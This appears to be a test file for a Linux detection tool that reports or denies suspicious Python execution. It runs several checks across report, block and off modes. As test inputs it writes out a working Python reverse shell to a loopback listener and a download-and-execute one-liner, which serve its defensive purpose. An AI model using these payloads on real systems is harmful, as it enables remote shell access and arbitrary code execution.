# SPDX-License-Identifier: GPL-2.0-only
"""The main job: three behaviours of detection A, reported and then denied."""

import os
import socket
import threading

from kit import (WAYS, Monitor, check, equal, finish, judged, load_path, mode,
                 run, skip)

SHIPPED = '/test/shipped/python_suspicious_execution.yml'
PYTHON = os.path.realpath('/usr/bin/python3')

SHELL = ('import socket,subprocess,os;'
         's=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
         's.connect(("127.0.0.1",4444));'
         '[os.dup2(s.fileno(),n) for n in (0,1,2)];'
         'subprocess.call(["/bin/sh","-i"])')
DOWNLOAD = ('import urllib.request;'
            'exec(urllib.request.urlopen("http://127.0.0.1:8080/x").read())')
POPEN = 'import subprocess;subprocess.Popen(["id"]).wait()'

BEHAVIOURS = (
    ('reverse shell', SHELL, {'ReverseShell', 'SubprocessExec'}),
    ('download and execute', DOWNLOAD, {'DownloadExec', 'CodeExec'}),
    ('subprocess', POPEN, {'SubprocessExec'}),
)


class Listener(threading.Thread):
    """Waits for the reverse shell, and has it work something out."""

    def __init__(self):
        super().__init__(daemon=True)
        self.connections = 0
        self.heard = ''
        self._socket = socket.create_server(('127.0.0.1', 4444))
        self.start()

    def run(self):
        while True:
            connection = self._socket.accept()[0]
            self.connections += 1
            with connection:
                connection.sendall(b'echo shell-$((40+2))\nexit\n')
                while data := connection.recv(4096):
                    self.heard += data.decode()


def rule_ids():
    """The ids of the shipped rules: the one that reports, the one that denies."""
    with open(SHIPPED, encoding='utf-8') as stream:
        return [line.split()[1] for line in stream if line.startswith('id:')]


def check_event(name, events, code, labels, verdict):
    """One event, with everything that the alert has to tell."""
    if not equal(f'{name}: one event', len(events), 1):
        return
    event = events[0]
    equal(f'{name}: verdict', event.verdict, verdict)
    equal(f'{name}: rules', event.rules, rule_ids())
    equal(f'{name}: labels', set(event.labels), labels)
    equal(f'{name}: command line', event.command, f'python3 -c {code}')
    equal(f'{name}: image', (event.image, event.invoked),
          (PYTHON, '/usr/bin/python3'))
    equal(f'{name}: parent', (event.parent_pid, event.parent_image),
          (os.getpid(), PYTHON))
    equal(f'{name}: user', event.record['user'], {'id': '0', 'name': 'root'})
    technique = event.record['threat']['technique']
    equal(f'{name}: ATT&CK', (technique['id'], technique['subtechnique']['id']),
          (['T1059'], ['T1059.006']))


def check_report(monitor, listener):
    """Everything happens, and is told."""
    mode('report')
    for name, code, labels in BEHAVIOURS:
        done = run('python3', '-c', code)
        check_event(name, monitor.events(), code, labels, 'report')
        if code == DOWNLOAD:
            check(f'{name}: it ran, and was refused by nobody but the network',
                  'Connection refused' in done.stderr, done.stderr)
        else:
            equal(f'{name}: it ran', done.returncode, 0)
    equal('reverse shell: it reached the listener', listener.connections, 1)
    check('reverse shell: it is one', 'shell-42' in listener.heard,
          listener.heard)


def check_block(monitor, listener):
    """Nothing happens, and that is told."""
    mode('block')
    before = listener.connections
    for name, code, labels in BEHAVIOURS:
        name += ', blocked'
        error = None
        try:
            run('python3', '-c', code, executable='/usr/bin/python3')
        except OSError as caught:
            error = caught.errno
        equal(f'{name}: errno', error, 1)
        check_event(name, monitor.events(), code, labels, 'deny')
    equal('the listener was left alone', listener.connections, before)


def check_shells(monitor):
    """What people see of it."""
    code = 'import os;os.system(chr(105))'
    for shell in ('bash', 'dash'):
        done = run(shell, '-c', f'python3 -c "{code}"; echo "$?"')
        check(f'{shell} says so', 'Operation not permitted' in done.stderr or
              'Permission denied' in done.stderr, done.stderr)
        equal(f'{shell} goes on', done.stdout, '126\n')
        # More than one, if it goes on to the next directory of PATH.
        equal(f'{shell}: the parent',
              {(event.parent_image, event.verdict)
               for event in monitor.events()},
              {(os.path.realpath(f'/usr/bin/{shell}'), 'deny')})
    done = run(WAYS, 'exec', '/usr/bin/python3', 'python3', '-c', code)
    equal('execve() says so', (done.returncode, done.stderr),
          (126, 'ways: /usr/bin/python3: Operation not permitted\n'))
    monitor.events()


def check_reported(monitor):
    """What is worth a look, but not worth a refusal."""
    done = run('python3', '-c', 'import os')
    equal('only reported: it runs', done.returncode, 0)
    equal('only reported', [(event.rules, event.verdict)
                            for event in monitor.events()],
          [(rule_ids()[:1], 'report')])


def check_harmless(monitor):
    """Everybody else works on."""
    os.makedirs('/tmp/harmless')
    for name, text in (('script.py', 'print(6 * 7)\n'),
                       ('direct', '#!/usr/bin/python3\nprint(6 * 7)\n'),
                       ('script.sh', 'echo $((6 * 7))\n')):
        with open(f'/tmp/harmless/{name}', 'w', encoding='utf-8') as stream:
            stream.write(text)
        os.chmod(f'/tmp/harmless/{name}', 0o755)
    for argv in (['python3', '/tmp/harmless/script.py'],
                 ['/tmp/harmless/direct'],
                 ['python3', '-c', 'print(6 * 7)'],
                 ['sh', '/tmp/harmless/script.sh'],
                 ['sh', '-c', 'echo 42 # import os']):
        done = run(*argv)
        equal(f'harmless: {" ".join(argv)}', (done.returncode, done.stdout),
              (0, '42\n'))
    equal('harmless: no events', monitor.events(), [])


def check_off(monitor):
    """Nothing is looked at."""
    mode('off')
    before = judged()
    equal('off: it runs', run('python3', '-c', POPEN).returncode, 0)
    equal('off: nothing is judged', judged(), before)
    equal('off: no events', monitor.events(), [])


def check_no_policy(monitor):
    """A policy that says nothing takes the shipped one's place."""
    mode('block')
    load_path('/test/rules/nothing.yml')
    equal('another policy: it runs',
          run('python3', '-c', POPEN).returncode, 0)
    equal('another policy: no events', monitor.events(), [])


def main():
    """Everything, with one reader and one listener."""
    load_path(SHIPPED)
    monitor, listener = Monitor(), Listener()
    check_report(monitor, listener)
    check_block(monitor, listener)
    check_shells(monitor)
    check_reported(monitor)
    check_harmless(monitor)
    check_off(monitor)
    check_no_policy(monitor)
    monitor.stop()
    skip('the first process is never denied',
         'that process is the one that this machine was started with')
    finish()


main()
